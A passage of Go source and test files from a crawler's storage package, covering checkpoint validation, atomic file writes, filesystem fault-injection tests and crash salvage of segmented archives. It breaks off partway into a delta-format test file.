	Format int `json:"format,omitempty"`
	// CommittedWeeks counts fully committed weeks; the next week to
	// collect is week CommittedWeeks (0-based).
	CommittedWeeks int     `json:"committed_weeks"`
	Segments       int     `json:"segments"`
	Offsets        []int64 `json:"offsets"`
	Counts         []int   `json:"counts"`
	Total          int     `json:"total"`
	// Members is the per-segment committed member table of a delta-format
	// store: checkpoint salvage re-hashes the committed prefix against it
	// before trusting a decode. Per segment, the member lengths must sum
	// to the committed offset and the record counts to the committed
	// count — ReadCheckpoint enforces both.
	Members [][]Member `json:"members,omitempty"`
	Run     RunID      `json:"run"`
}

// CheckpointPath returns the journal path inside a store directory.
func CheckpointPath(dir string) string { return filepath.Join(dir, CheckpointName) }

// HasCheckpoint reports whether dir carries a checkpoint journal.
func HasCheckpoint(dir string) bool {
	_, err := os.Stat(CheckpointPath(dir))
	return err == nil
}

// ReadCheckpoint loads and validates a store's checkpoint journal.
func ReadCheckpoint(dir string) (Checkpoint, error) {
	data, err := os.ReadFile(CheckpointPath(dir))
	if err != nil {
		return Checkpoint{}, fmt.Errorf("store: %s: %w", dir, err)
	}
	var ck Checkpoint
	if err := json.Unmarshal(data, &ck); err != nil {
		return Checkpoint{}, fmt.Errorf("store: %s: corrupt checkpoint: %w", dir, err)
	}
	if ck.Version != CheckpointVersion {
		return Checkpoint{}, fmt.Errorf("store: %s: checkpoint version %d not supported", dir, ck.Version)
	}
	if ck.Segments < 1 || ck.Segments != len(ck.Offsets) || ck.Segments != len(ck.Counts) {
		return Checkpoint{}, fmt.Errorf("store: %s: checkpoint inconsistent (%d segments, %d offsets, %d counts)",
			dir, ck.Segments, len(ck.Offsets), len(ck.Counts))
	}
	if ck.CommittedWeeks < 1 {
		return Checkpoint{}, fmt.Errorf("store: %s: checkpoint commits no weeks", dir)
	}
	total := 0
	for i := range ck.Offsets {
		if ck.Offsets[i] < 0 || ck.Counts[i] < 0 {
			return Checkpoint{}, fmt.Errorf("store: %s: checkpoint segment %d negative", dir, i)
		}
		total += ck.Counts[i]
	}
	if total != ck.Total {
		return Checkpoint{}, fmt.Errorf("store: %s: checkpoint totals inconsistent (%d declared, %d summed)",
			dir, ck.Total, total)
	}
	if ck.Format == 0 {
		ck.Format = FormatFramed // journals predating the format field
	}
	if ck.Format != FormatFramed && ck.Format != FormatDelta && ck.Format != FormatBundle {
		return Checkpoint{}, fmt.Errorf("store: %s: checkpoint format %d not supported", dir, ck.Format)
	}
	if formatHasMembers(ck.Format) {
		if len(ck.Members) != ck.Segments {
			return Checkpoint{}, fmt.Errorf("store: %s: checkpoint inconsistent (%d segments, %d member tables)",
				dir, ck.Segments, len(ck.Members))
		}
		for i, members := range ck.Members {
			var bytes int64
			records := 0
			for _, m := range members {
				if m.Len <= 0 || m.Records < 0 {
					return Checkpoint{}, fmt.Errorf("store: %s: checkpoint segment %d member table invalid", dir, i)
				}
				bytes += m.Len
				records += m.Records
			}
			if bytes != ck.Offsets[i] || records != ck.Counts[i] {
				return Checkpoint{}, fmt.Errorf(
					"store: %s: checkpoint segment %d member table inconsistent (%d bytes vs offset %d, %d records vs count %d)",
					dir, i, bytes, ck.Offsets[i], records, ck.Counts[i])
			}
		}
	}
	return ck, nil
}

// writeCheckpoint commits the journal atomically: a crash during the write
// leaves the previous checkpoint authoritative, never a torn one.
func writeCheckpoint(fsys FS, dir string, ck Checkpoint) error {
	data, err := json.MarshalIndent(ck, "", "  ")
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	return atomicWriteFile(fsys, CheckpointPath(dir), append(data, '\n'))
}
