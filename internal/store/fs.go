// Filesystem seam for the durability path.
//
// Every byte the store intends to survive a crash travels through the FS
// interface below: segment creation, record writes, week-boundary fsyncs,
// the atomic temp-file+fsync+rename commit of checkpoints and manifests.
// Production code uses the real filesystem (osFS); the fault-injection
// tests substitute an errfs that fails a chosen operation — short write,
// ENOSPC mid-segment, fsync error, crash-before-rename — and then prove
// the on-disk state is either fully committed or salvageable. The seam is
// the same discipline PR 3's chaos schedules established for the network,
// applied to the write path.

package store

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
)

// File is the slice of *os.File the durable write path needs. Reads go
// through plain os.Open: crash-safety is a property of writes, and keeping
// the read path seam-free keeps it allocation-free.
type File interface {
	io.Writer
	io.Seeker
	// Sync flushes the file's data to stable storage (fsync).
	Sync() error
	// Truncate cuts the file to size bytes (the resume path's torn-tail
	// amputation).
	Truncate(size int64) error
	Close() error
}

// FS is the injectable filesystem the store writes through.
type FS interface {
	// OpenFile is os.OpenFile; the store uses it for segment files,
	// checkpoint/manifest temp files, and resume reopening.
	OpenFile(name string, flag int, perm os.FileMode) (File, error)
	// Rename atomically replaces newpath with oldpath — the commit point
	// of every checkpoint and manifest write.
	Rename(oldpath, newpath string) error
	// Remove deletes a file, used to clear stale manifests and orphans.
	Remove(name string) error
	// SyncDir fsyncs a directory so renames and creations inside it are
	// durable, not just ordered.
	SyncDir(dir string) error
}

// osFS is the real filesystem.
type osFS struct{}

func (osFS) OpenFile(name string, flag int, perm os.FileMode) (File, error) {
	return os.OpenFile(name, flag, perm)
}

func (osFS) Rename(oldpath, newpath string) error { return os.Rename(oldpath, newpath) }

func (osFS) Remove(name string) error { return os.Remove(name) }

func (osFS) SyncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	err = d.Sync()
	if cerr := d.Close(); err == nil {
		err = cerr
	}
	return err
}

// realFS returns fsys, defaulting nil to the real filesystem.
func realFS(fsys FS) FS {
	if fsys == nil {
		return osFS{}
	}
	return fsys
}

// atomicWriteFile commits data to path with the temp-file + fsync + rename
// discipline: a reader (or a post-crash salvage) sees either the previous
// complete content or the new complete content, never a torn mixture. The
// temp file lives in the same directory so the rename cannot cross
// filesystems, and the directory itself is fsynced after the rename so the
// commit survives power loss, not just process death.
func atomicWriteFile(fsys FS, path string, data []byte) error {
	dir := filepath.Dir(path)
	tmp := path + ".tmp"
	f, err := fsys.OpenFile(tmp, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	if _, err := f.Write(data); err != nil {
		_ = f.Close()
		_ = fsys.Remove(tmp)
		return fmt.Errorf("store: %s: %w", tmp, err)
	}
	if err := f.Sync(); err != nil {
		_ = f.Close()
		_ = fsys.Remove(tmp)
		return fmt.Errorf("store: %s: %w", tmp, err)
	}
	if err := f.Close(); err != nil {
		_ = fsys.Remove(tmp)
		return fmt.Errorf("store: %s: %w", tmp, err)
	}
	if err := fsys.Rename(tmp, path); err != nil {
		_ = fsys.Remove(tmp)
		return fmt.Errorf("store: %w", err)
	}
	if err := fsys.SyncDir(dir); err != nil {
		return fmt.Errorf("store: %s: %w", dir, err)
	}
	return nil
}

// AtomicWriteFile commits data to path atomically through fsys (nil = the
// real filesystem) with the same temp-file + fsync + rename + dir-fsync
// discipline checkpoints and manifests use — exported for sibling packages
// (wexbundle's metadata file) layering on the store's durability story.
func AtomicWriteFile(fsys FS, path string, data []byte) error {
	return atomicWriteFile(realFS(fsys), path, data)
}

// FNV-1a parameters — the checksum family of the v2 record frames, the v3
// member table, and the ShardOf partition function.
const (
	fnvOffset32 = 2166136261
	fnvPrime32  = 16777619
)

// fnv1aUpdate folds b into a running FNV-1a state (start from fnvOffset32
// for a fresh sum) — the incremental form the member hasher needs.
func fnv1aUpdate(h uint32, b []byte) uint32 {
	for i := 0; i < len(b); i++ {
		h ^= uint32(b[i])
		h *= fnvPrime32
	}
	return h
}

// fnv1aSum is FNV-1a over a byte slice — the record-frame checksum, the
// same hash family ShardOf partitions by.
func fnv1aSum(b []byte) uint32 {
	return fnv1aUpdate(fnvOffset32, b)
}
