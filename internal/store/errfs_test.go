package store

// Filesystem fault injection: the write-path counterpart of the crawler's
// chaos schedules. A faultFS wraps the real filesystem and fails a chosen
// operation — short write, ENOSPC mid-segment, fsync error, crash-before-
// rename — at a deterministic byte budget. The schedule tests then prove
// the durability contract: whatever the fault, the on-disk store is either
// fully committed through the last checkpointed week or salvageable to
// exactly that state. No committed week may ever be lost.

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"sync"
	"testing"
)

var (
	errInjectedWrite  = errors.New("injected: no space left on device")
	errInjectedSync   = errors.New("injected: fsync failed")
	errInjectedRename = errors.New("injected: crash before rename")
)

// faultFS injects write-path faults at a byte budget. All segment and
// journal writes share one budget, so a schedule deterministically places
// the fault at a byte offset of the run.
type faultFS struct {
	mu sync.Mutex
	os osFS
	// budget is the bytes allowed before the write fault fires; -1 means
	// unlimited.
	budget int
	// shortWrite makes the faulting Write persist a partial prefix first —
	// a torn write — instead of failing cleanly like ENOSPC.
	shortWrite bool
	failSync   bool
	failRename bool
	wrote      int
	// faulted records that the budget fault actually fired.
	faulted bool
}

func (f *faultFS) OpenFile(name string, flag int, perm os.FileMode) (File, error) {
	file, err := f.os.OpenFile(name, flag, perm)
	if err != nil {
		return nil, err
	}
	return &faultFile{fs: f, File: file}, nil
}

func (f *faultFS) Rename(oldpath, newpath string) error {
	f.mu.Lock()
	fail := f.failRename
	f.mu.Unlock()
	if fail {
		return errInjectedRename
	}
	return f.os.Rename(oldpath, newpath)
}

func (f *faultFS) Remove(name string) error { return f.os.Remove(name) }

func (f *faultFS) SyncDir(dir string) error {
	f.mu.Lock()
	fail := f.failSync
	f.mu.Unlock()
	if fail {
		return errInjectedSync
	}
	return f.os.SyncDir(dir)
}

type faultFile struct {
	fs *faultFS
	File
}

func (ff *faultFile) Write(p []byte) (int, error) {
	ff.fs.mu.Lock()
	defer ff.fs.mu.Unlock()
	ff.fs.wrote += len(p)
	if ff.fs.budget < 0 {
		return ff.File.Write(p)
	}
	if len(p) <= ff.fs.budget {
		ff.fs.budget -= len(p)
		return ff.File.Write(p)
	}
	// The fault point: optionally tear the write, then fail.
	n := 0
	if ff.fs.shortWrite && ff.fs.budget > 0 {
		n, _ = ff.File.Write(p[:ff.fs.budget])
	}
	ff.fs.budget = 0
	ff.fs.faulted = true
	return n, errInjectedWrite
}

func (ff *faultFile) Sync() error {
	ff.fs.mu.Lock()
	fail := ff.fs.failSync
	ff.fs.mu.Unlock()
	if fail {
		return errInjectedSync
	}
	return ff.File.Sync()
}

// byWeek splits an observation stream into per-week groups.
func byWeek(obs []Observation, weeks int) [][]Observation {
	out := make([][]Observation, weeks)
	for _, o := range obs {
		out[o.Week] = append(out[o.Week], o)
	}
	return out
}

// runCheckpointedWrite drives a checkpointed segmented write week by week
// on fsys until a fault aborts it, simulating the crash with Abort (user-
// space buffers lost, OS-reached bytes kept). It returns the number of
// weeks whose CommitWeek succeeded.
func runCheckpointedWrite(t *testing.T, dir string, fsys FS, weeks [][]Observation, segments int, run RunID, format int) (committed int) {
	t.Helper()
	w, err := CreateSegmentedWith(dir, segments, SegmentedOptions{Checkpoint: true, Run: run, FS: fsys, Format: format})
	if err != nil {
		t.Fatalf("create: %v", err)
	}
	for wk, obs := range weeks {
		for _, o := range obs {
			if err := w.Write(o); err != nil {
				_ = w.Abort()
				return committed
			}
		}
		if err := w.CommitWeek(wk); err != nil {
			_ = w.Abort()
			return committed
		}
		committed = wk + 1
	}
	if err := w.Close(); err != nil {
		_ = w.Abort()
		return committed
	}
	return committed
}

// checkSalvagedState asserts the durability contract on a salvaged store:
// every record of every committed week is present, and each segment's
// recovered records are an exact prefix of the records routed to it.
func checkSalvagedState(t *testing.T, dir string, weeks [][]Observation, segments, committedWeeks int) {
	t.Helper()
	perSeg := make([][]Observation, segments)
	committedPerSeg := make([]int, segments)
	for wk, obs := range weeks {
		for _, o := range obs {
			s := ShardOf(o.Domain, segments)
			perSeg[s] = append(perSeg[s], o)
			if wk < committedWeeks {
				committedPerSeg[s]++
			}
		}
	}
	for s := 0; s < segments; s++ {
		var got []Observation
		if err := ForEachSegment(dir, s, func(o Observation) error {
			got = append(got, o.Clone())
			return nil
		}); err != nil {
			t.Fatalf("segment %d unreadable after salvage: %v", s, err)
		}
		if len(got) < committedPerSeg[s] {
			t.Fatalf("segment %d: %d records recovered, committed weeks held %d — committed data lost",
				s, len(got), committedPerSeg[s])
		}
		if len(got) > len(perSeg[s]) {
			t.Fatalf("segment %d: %d records recovered, only %d ever written", s, len(got), len(perSeg[s]))
		}
		want := perSeg[s][:len(got)]
		for i := range got {
			a, b := got[i], want[i]
			if len(a.Libs) == 0 {
				a.Libs = nil
			}
			if !reflect.DeepEqual(a, b) {
				t.Fatalf("segment %d record %d: salvage returned a record that was never written\n got %+v\nwant %+v",
					s, i, a, b)
			}
		}
	}
	if _, err := Verify(dir); err != nil {
		t.Fatalf("salvaged store fails verify: %v", err)
	}
}

// TestFaultScheduleCommitsOrSalvages sweeps the write fault across the
// run — several byte budgets for clean ENOSPC and for torn short writes,
// in both the framed (v2) and delta (v3) segment formats — and proves
// every crash point leaves a store Salvage restores to all committed
// weeks.
func TestFaultScheduleCommitsOrSalvages(t *testing.T) {
	const segments = 3
	run := RunID{Seed: 77, Domains: 15, Weeks: 6}
	weeks := byWeek(genObs(15, 6), 6)

	for _, format := range []int{FormatFramed, FormatDelta} {
		fmtTag := "v" + itoa(format)
		// Measure the fault-free byte volume (format-dependent: v3 writes
		// far fewer bytes) to place budgets meaningfully.
		probe := &faultFS{budget: -1}
		dir := filepath.Join(t.TempDir(), "probe-"+fmtTag)
		if got := runCheckpointedWrite(t, dir, probe, weeks, segments, run, format); got != 6 {
			t.Fatalf("%s: fault-free run committed %d weeks, want 6", fmtTag, got)
		}
		total := probe.wrote
		if total == 0 {
			t.Fatal("probe measured zero bytes")
		}

		for _, shortWrite := range []bool{false, true} {
			name := "enospc"
			if shortWrite {
				name = "short-write"
			}
			for _, frac := range []int{5, 25, 45, 65, 85, 99} {
				budget := total * frac / 100
				t.Run(fmtTag+"/"+name+"/"+itoa(frac)+"pct", func(t *testing.T) {
					fsys := &faultFS{budget: budget, shortWrite: shortWrite}
					dir := filepath.Join(t.TempDir(), "store")
					// committed may reach 6 when the fault lands past the last
					// CommitWeek (e.g. inside the manifest write): all weeks are
					// then committed and salvage must restore the full archive.
					committed := runCheckpointedWrite(t, dir, fsys, weeks, segments, run, format)
					if !fsys.faulted {
						t.Fatalf("budget %d of %d bytes did not fault", budget, total)
					}
					res, err := Salvage(dir)
					if err != nil {
						t.Fatalf("salvage after %d committed weeks: %v", committed, err)
					}
					if committed > 0 && !res.FromCheckpoint {
						t.Errorf("checkpoint present but salvage ignored it: %+v", res)
					}
					checkSalvagedState(t, dir, weeks, segments, committed)
				})
			}
		}
	}
}

// TestFaultFsyncAbortsCommit: an fsync failure must fail CommitWeek (the
// week is not durable) and leave the previous commit salvageable.
func TestFaultFsyncAbortsCommit(t *testing.T) {
	const segments = 2
	run := RunID{Seed: 3, Domains: 10, Weeks: 4}
	weeks := byWeek(genObs(10, 4), 4)
	fsys := &faultFS{budget: -1}
	dir := filepath.Join(t.TempDir(), "store")
	w, err := CreateSegmentedWith(dir, segments, SegmentedOptions{Checkpoint: true, Run: run, FS: fsys})
	if err != nil {
		t.Fatal(err)
	}
	for wk := 0; wk < 2; wk++ {
		for _, o := range weeks[wk] {
			if err := w.Write(o); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.CommitWeek(wk); err != nil {
			t.Fatal(err)
		}
	}
	fsys.mu.Lock()
	fsys.failSync = true
	fsys.mu.Unlock()
	for _, o := range weeks[2] {
		if err := w.Write(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.CommitWeek(2); !errors.Is(err, errInjectedSync) {
		t.Fatalf("CommitWeek with failing fsync: %v", err)
	}
	_ = w.Abort()
	if _, err := Salvage(dir); err != nil {
		t.Fatal(err)
	}
	checkSalvagedState(t, dir, weeks, segments, 2)
	if ck, err := ReadCheckpoint(dir); err != nil || ck.CommittedWeeks != 2 {
		t.Fatalf("checkpoint after failed commit: %+v, %v", ck, err)
	}
}

// TestFaultCrashBeforeRename: the checkpoint temp file is written but the
// rename never happens — the previous checkpoint must stay authoritative
// and the store salvageable to it.
func TestFaultCrashBeforeRename(t *testing.T) {
	const segments = 2
	run := RunID{Seed: 4, Domains: 12, Weeks: 4}
	weeks := byWeek(genObs(12, 4), 4)
	fsys := &faultFS{budget: -1}
	dir := filepath.Join(t.TempDir(), "store")
	w, err := CreateSegmentedWith(dir, segments, SegmentedOptions{Checkpoint: true, Run: run, FS: fsys})
	if err != nil {
		t.Fatal(err)
	}
	commitThrough := func(from, to int) {
		t.Helper()
		for wk := from; wk < to; wk++ {
			for _, o := range weeks[wk] {
				if err := w.Write(o); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.CommitWeek(wk); err != nil {
				t.Fatal(err)
			}
		}
	}
	commitThrough(0, 3)
	fsys.mu.Lock()
	fsys.failRename = true
	fsys.mu.Unlock()
	for _, o := range weeks[3] {
		if err := w.Write(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.CommitWeek(3); !errors.Is(err, errInjectedRename) {
		t.Fatalf("CommitWeek with failing rename: %v", err)
	}
	_ = w.Abort()
	ck, err := ReadCheckpoint(dir)
	if err != nil {
		t.Fatalf("previous checkpoint must survive the torn commit: %v", err)
	}
	if ck.CommittedWeeks != 3 {
		t.Fatalf("checkpoint says %d weeks, want the pre-crash 3", ck.CommittedWeeks)
	}
	if _, err := Salvage(dir); err != nil {
		t.Fatal(err)
	}
	checkSalvagedState(t, dir, weeks, segments, 3)
}
