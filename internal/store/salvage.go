// Store fsck: integrity verification and corrupt-archive salvage.
//
// Crash recovery has two authorities, consulted in order. A valid manifest
// whose declared counts survive a full checksum-verified replay means the
// archive is intact — salvage is a no-op. Failing that, a checkpoint
// journal is exact: each segment is truncated back to its committed byte
// offset and the committed record counts are re-verified by replay, so a
// salvaged checkpointed store contains precisely the committed weeks —
// never less (losing committed weeks is an error, not a repair). With
// neither authority — a legacy store torn mid-write — salvage falls back
// to scanning: each segment keeps its longest decodable, checksum-valid
// record prefix (rewritten through a temp file and renamed into place),
// and the rebuilt manifest is marked salvaged so downstream tooling knows
// the archive is a recovered prefix, not a complete run.

package store

import (
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
)

// SegmentInfo is one segment's inspection result.
type SegmentInfo struct {
	Index     int
	Path      string
	SizeBytes int64
	// Format is the record format sniffed from the segment's first
	// decompressed byte (FormatPlain/Framed/Delta; 0 for an empty or
	// unreadable stream).
	Format int
	// Members counts the segment's complete gzip members — the committed
	// durability units of a multi-member segment.
	Members int
	// Records counts the decodable, checksum-valid record prefix.
	Records int
	// Truncated marks a segment whose scan stopped at a decode error
	// (torn gzip member, bad frame, checksum mismatch); Err carries it.
	Truncated bool
	Err       string
}

// Inspection is the full fsck view of a store directory.
type Inspection struct {
	Dir           string
	HasManifest   bool
	Manifest      Manifest
	ManifestErr   string
	HasCheckpoint bool
	Checkpoint    Checkpoint
	CheckpointErr string
	Segments      []SegmentInfo
	TotalRecords  int
}

// countRecords counts a segment's decodable record prefix in whatever
// format the segment sniffed as: bundle segments count raw '!'-marked
// lines, everything else decodes observations.
func countRecords(path string, format int, n *int) error {
	if format == FormatBundle {
		return ForEachRawLine(path, func([]byte) error { *n++; return nil })
	}
	return forEachFile(path, func(Observation) error { *n++; return nil })
}

// segmentFiles lists dir's segment files and verifies they are contiguous
// seg-0000..seg-(n-1).
func segmentFiles(dir string) ([]string, error) {
	matches, err := filepath.Glob(filepath.Join(dir, "seg-*.jsonl.gz"))
	if err != nil {
		return nil, fmt.Errorf("store: %w", err)
	}
	var paths []string
	for _, m := range matches {
		if _, ok := segmentIndex(dir, m); ok {
			paths = append(paths, m)
		}
	}
	if len(paths) == 0 {
		return nil, fmt.Errorf("store: %s: no segment files", dir)
	}
	sort.Strings(paths)
	for i, p := range paths {
		if p != SegmentPath(dir, i) {
			return nil, fmt.Errorf("store: %s: segment files not contiguous (missing %s)", dir, SegmentPath(dir, i))
		}
	}
	return paths, nil
}

// Inspect scans a store directory without modifying it: manifest and
// checkpoint state (present, absent, or corrupt) plus, per segment, the
// length of the decodable checksum-valid record prefix. It only fails when
// the directory holds no segment files at all.
func Inspect(dir string) (Inspection, error) {
	in := Inspection{Dir: dir}
	paths, err := segmentFiles(dir)
	if err != nil {
		return in, err
	}
	if man, err := ReadManifest(dir); err == nil {
		in.HasManifest, in.Manifest = true, man
	} else if !errors.Is(err, fs.ErrNotExist) {
		in.ManifestErr = err.Error()
	}
	if HasCheckpoint(dir) {
		if ck, err := ReadCheckpoint(dir); err == nil {
			in.HasCheckpoint, in.Checkpoint = true, ck
		} else {
			in.CheckpointErr = err.Error()
		}
	}
	for i, path := range paths {
		info := SegmentInfo{Index: i, Path: path}
		if fi, err := os.Stat(path); err == nil {
			info.SizeBytes = fi.Size()
		}
		info.Format, _ = sniffFormat(path)
		// Best-effort member count: a torn tail reports the intact prefix.
		info.Members, _ = countGzipMembers(path)
		scanErr := countRecords(path, info.Format, &info.Records)
		if scanErr != nil {
			info.Truncated = true
			info.Err = scanErr.Error()
		}
		in.TotalRecords += info.Records
		in.Segments = append(in.Segments, info)
	}
	return in, nil
}

// Verify is the integrity mode ReadManifest alone does not provide: beyond
// the manifest's shape it replays every segment, checksum-verifying each
// record, and cross-checks the actual decodable record counts against the
// counts the manifest declares. A lying manifest — declared counts that do
// not match the data — fails here even though ReadManifest accepts it.
func Verify(dir string) (Inspection, error) {
	in, err := Inspect(dir)
	if err != nil {
		return in, err
	}
	if !in.HasManifest {
		if in.ManifestErr != "" {
			return in, fmt.Errorf("store: %s: %s", dir, in.ManifestErr)
		}
		return in, fmt.Errorf("store: %s: no manifest — incomplete archive (crashed run?); run salvage", dir)
	}
	if in.Manifest.Segments != len(in.Segments) {
		return in, fmt.Errorf("store: %s: manifest declares %d segments, %d on disk",
			dir, in.Manifest.Segments, len(in.Segments))
	}
	for _, seg := range in.Segments {
		if seg.Truncated {
			return in, fmt.Errorf("store: %s: %s", filepath.Base(seg.Path), seg.Err)
		}
		if want := in.Manifest.Counts[seg.Index]; seg.Records != want {
			return in, fmt.Errorf("store: %s: manifest declares %d records, segment holds %d",
				filepath.Base(seg.Path), want, seg.Records)
		}
		if formatHasMembers(in.Manifest.Version) {
			// v3: the member table must account for every compressed byte
			// of the segment with matching FNV-1a sums and record counts —
			// corruption is caught on the raw bytes, decode aside.
			members := in.Manifest.Members[seg.Index]
			records := 0
			for _, m := range members {
				records += m.Records
			}
			if records != seg.Records {
				return in, fmt.Errorf("store: %s: member table records %d, segment holds %d",
					filepath.Base(seg.Path), records, seg.Records)
			}
			if err := verifyMemberTable(seg.Path, members); err != nil {
				return in, err
			}
		}
	}
	if in.HasCheckpoint && in.Checkpoint.Segments != in.Manifest.Segments {
		return in, fmt.Errorf("store: %s: checkpoint covers %d segments, manifest %d",
			dir, in.Checkpoint.Segments, in.Manifest.Segments)
	}
	return in, nil
}

// SalvageResult reports what Salvage did.
type SalvageResult struct {
	Segments int
	Counts   []int
	Total    int
	// Intact means the archive verified clean and nothing was touched.
	Intact bool
	// FromCheckpoint means segments were truncated to the checkpoint's
	// committed offsets; otherwise torn segments were rewritten to their
	// longest valid record prefix.
	FromCheckpoint bool
	// TornSegments counts segments that actually lost a tail.
	TornSegments int
	// DroppedBytes totals the torn tail bytes amputated (checkpoint path).
	DroppedBytes int64
}

// Salvage repairs a crashed, torn, or manifest-less store directory in
// place and rewrites a manifest marked salvaged, making the archive
// readable again. See the package comment above for the authority order
// (intact manifest > checkpoint > prefix scan). Salvaging never loses
// committed data: a checkpointed store that cannot be restored to its
// committed state errors out rather than degrading silently.
func Salvage(dir string) (SalvageResult, error) {
	return salvageOn(osFS{}, dir)
}

func salvageOn(fsys FS, dir string) (SalvageResult, error) {
	if _, err := Verify(dir); err == nil {
		man, _ := ReadManifest(dir)
		return SalvageResult{Segments: man.Segments, Counts: man.Counts,
			Total: man.Total, Intact: true}, nil
	}
	if HasCheckpoint(dir) {
		ck, err := ReadCheckpoint(dir)
		if err == nil {
			return salvageFromCheckpoint(fsys, dir, ck)
		}
		// A corrupt journal falls through to the scan: the atomic
		// checkpoint commit makes this near-impossible, but a scan still
		// recovers the data.
	}
	return salvageByScan(fsys, dir)
}

// salvageFromCheckpoint truncates every segment to its committed offset
// and re-verifies the committed record counts by checksum replay.
func salvageFromCheckpoint(fsys FS, dir string, ck Checkpoint) (SalvageResult, error) {
	res := SalvageResult{Segments: ck.Segments, Counts: ck.Counts, Total: ck.Total, FromCheckpoint: true}
	for i := 0; i < ck.Segments; i++ {
		path := SegmentPath(dir, i)
		f, err := fsys.OpenFile(path, os.O_RDWR, 0)
		if err != nil {
			return res, fmt.Errorf("store: %w", err)
		}
		size, err := f.Seek(0, io.SeekEnd)
		if err == nil && size < ck.Offsets[i] {
			err = fmt.Errorf("%d bytes on disk, checkpoint committed %d — committed weeks are missing",
				size, ck.Offsets[i])
		}
		if err == nil && size > ck.Offsets[i] {
			res.TornSegments++
			res.DroppedBytes += size - ck.Offsets[i]
			if err = f.Truncate(ck.Offsets[i]); err == nil {
				err = f.Sync()
			}
		}
		if cerr := f.Close(); err == nil && cerr != nil {
			err = cerr
		}
		if err != nil {
			return res, fmt.Errorf("store: %s: %w", path, err)
		}
		// Delta and bundle stores carry a stronger authority than the
		// offsets alone: the journal's member table. Re-hash the truncated
		// file against it before trusting any decode — a bit flip inside
		// committed data fails here on the raw bytes.
		if formatHasMembers(ck.Format) {
			if err := verifyMemberTable(path, ck.Members[i]); err != nil {
				return res, fmt.Errorf("store: committed member corrupt: %w", err)
			}
		}
		// Cross-check: the committed prefix must decode to exactly the
		// committed record count; anything else means corruption inside
		// committed data, which salvage must refuse to paper over.
		n := 0
		if err := countRecords(path, ck.Format, &n); err != nil {
			return res, fmt.Errorf("store: committed prefix corrupt: %w", err)
		}
		if n != ck.Counts[i] {
			return res, fmt.Errorf("store: %s: checkpoint committed %d records, prefix decodes %d",
				path, ck.Counts[i], n)
		}
	}
	if err := writeSalvagedManifest(fsys, dir, ck.Segments, ck.Counts, ck.Format, ck.Members); err != nil {
		return res, err
	}
	return res, nil
}

// errSalvageWrite tags failures of the salvage rewrite itself, so they are
// never mistaken for the torn-tail decode errors salvage exists to absorb.
var errSalvageWrite = errors.New("store: salvage rewrite failed")

// salvageByScan rewrites each segment to its longest valid record prefix.
// For observation stores the rewrite always targets the current delta
// format, whatever version the torn segment was — salvage of a v1 or v2
// store upgrades it to v3, complete with a member table in the rebuilt
// manifest. A bundle archive (any segment sniffing v4) is rewritten in its
// own raw format instead: bundle records are opaque here and must survive
// byte-for-byte.
func salvageByScan(fsys FS, dir string) (SalvageResult, error) {
	paths, err := segmentFiles(dir)
	if err != nil {
		return SalvageResult{}, err
	}
	target := FormatDelta
	for _, path := range paths {
		if f, _ := sniffFormat(path); f == FormatBundle {
			target = FormatBundle
			break
		}
	}
	res := SalvageResult{Segments: len(paths), Counts: make([]int, len(paths))}
	members := make([][]Member, len(paths))
	for i, path := range paths {
		tmp := path + ".salvage"
		nw, err := createFile(fsys, tmp, target)
		if err != nil {
			return res, fmt.Errorf("store: %w", err)
		}
		kept := 0
		var scanErr error
		if target == FormatBundle {
			scanErr = ForEachRawLine(path, func(line []byte) error {
				if err := nw.WriteRaw(line); err != nil {
					return fmt.Errorf("%w: %s: %v", errSalvageWrite, tmp, err)
				}
				kept++
				return nil
			})
		} else {
			scanErr = forEachFile(path, func(o Observation) error {
				if err := nw.Write(o); err != nil {
					return fmt.Errorf("%w: %s: %v", errSalvageWrite, tmp, err)
				}
				kept++
				return nil
			})
		}
		if scanErr != nil {
			if errors.Is(scanErr, errSalvageWrite) {
				_ = nw.abort()
				_ = fsys.Remove(tmp)
				return res, scanErr
			}
			res.TornSegments++ // decode stopped at the torn tail; amputated
		}
		if _, err := nw.commit(); err != nil {
			_ = nw.abort()
			_ = fsys.Remove(tmp)
			return res, fmt.Errorf("store: %s: %w", tmp, err)
		}
		members[i] = append([]Member(nil), nw.members...)
		if err := nw.Close(); err != nil {
			_ = fsys.Remove(tmp)
			return res, fmt.Errorf("store: %s: %w", tmp, err)
		}
		if err := fsys.Rename(tmp, path); err != nil {
			_ = fsys.Remove(tmp)
			return res, fmt.Errorf("store: %w", err)
		}
		if err := fsys.SyncDir(dir); err != nil {
			return res, fmt.Errorf("store: %s: %w", dir, err)
		}
		res.Counts[i] = kept
		res.Total += kept
	}
	if err := writeSalvagedManifest(fsys, dir, res.Segments, res.Counts, target, members); err != nil {
		return res, err
	}
	return res, nil
}

func writeSalvagedManifest(fsys FS, dir string, segments int, counts []int, version int, members [][]Member) error {
	man := Manifest{
		Version:   version,
		Segments:  segments,
		Partition: PartitionFNV1aDomain,
		Counts:    counts,
		Salvaged:  true,
	}
	if formatHasMembers(version) {
		man.Members = members
	}
	for _, c := range counts {
		man.Total += c
	}
	return writeManifest(fsys, dir, man)
}
