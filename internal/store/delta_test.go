package store

// Tests for the v3 delta segment format: round-trip fidelity on both
// churny and longitudinal data, the inline fast-path fallbacks, member
// checksum integrity, format stickiness across resume, and the size win
// over v1/v2 that motivates the format.

import (
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// genLongitudinal builds a stream shaped like real longitudinal crawl
// data: each domain has a stable profile and most weeks repeat the prior
// week's observation exactly (only Week advances), with a small churn
// probability of a library upgrade or status flip. This is the shape the
// v3 same-record fast path exploits.
func genLongitudinal(domains, weeks int, seed int64) []Observation {
	r := rand.New(rand.NewSource(seed))
	cur := make([]Observation, domains)
	for d := range cur {
		o := Observation{
			Domain: "site" + itoa(d) + ".example",
			Rank:   d + 1,
			Status: 200,
			Bytes:  4096,
			HasJS:  true,
			Libs: []LibRecord{{
				Slug: "jquery", Version: "1." + itoa(r.Intn(12)) + ".4", Known: true,
